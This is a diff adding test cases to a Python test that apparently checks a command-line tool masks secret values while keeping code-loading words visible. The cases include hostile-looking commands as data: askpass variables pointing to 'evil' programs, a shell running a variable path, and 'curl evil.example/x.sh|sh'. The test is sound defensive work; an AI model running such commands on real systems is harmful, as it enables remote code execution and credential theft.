@@ -300,6 +300,17 @@ def test_where_secrets_go_and_what_loads_code_is_shown(cli: CommandLine):
         (["other", "--pass", "--volume=/:/host"], "other --pass --volume=/:/host"),
         (["other", "--no-token", "evil"], "other --no-token evil"),
         (["other", "--token", "hunter2"], "other --token …"),
+        (["env", "SSH_ASKPASS=./evil-program", "ssh", "host"], "env SSH_ASKPASS=./evil-program ssh host"),
+        (["sh", "-c", "GIT_ASKPASS=./evil git clone x"], "sh -c 'GIT_ASKPASS=./evil git clone x'"),
+        (["sh", "-c", "PASS=/tmp/evil; $PASS"], "sh -c 'PASS=/tmp/evil; $PASS'"),
+        (
+            ["sh", "-c", "API_KEY=evil.example/x.sh; curl $API_KEY|sh"],
+            "sh -c 'API_KEY=evil.example/x.sh; curl $API_KEY|sh'",
+        ),
+        (["env", "TOKEN=ghp_Zx81kQpLmN42vTrW90aBcDeFgHiJkLmNoPqR", "other"], "env TOKEN=… other"),
+        (["git", "-c", "core.askPass=./evil", "fetch"], "git -c core.askPass=./evil fetch"),
+        (["other", "--askpass", "evil-program"], "other --askpass evil-program"),
+        (["other", "DB_PASS=hunter2"], "other DB_PASS=…"),
     ],
 )
 def test_no_word_that_may_be_started_hides_behind_the_flag_of_a_secret(
